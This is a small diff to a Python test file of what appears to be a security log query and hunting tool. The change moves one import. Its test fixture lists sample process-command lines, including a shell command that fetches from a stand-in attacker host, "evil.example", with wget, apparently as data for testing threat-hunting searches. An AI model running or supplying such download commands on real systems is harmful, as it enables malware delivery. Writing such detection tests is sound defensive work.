@@ -15,10 +15,10 @@ from hypothesis import strategies as st
 
 from driftline.kql.rewrite import All, Bounds, Either, Term
 from driftline.store.query.file_pruning import Part
+from driftline.store.query.views import Stored
 from driftline.store.schema import create_statement
 from driftline.store.stored import Ask, explain, hunt
 from driftline.store.term_index.index import TermIndex, terms_path, write_index
-from driftline.store.views import Stored
 
 TABLE = "CloudProcessEvents"
 LINES = ["curl -o /tmp/x", "sh -c 'wget evil.example'", "sleep 1", "CURL.exe"]
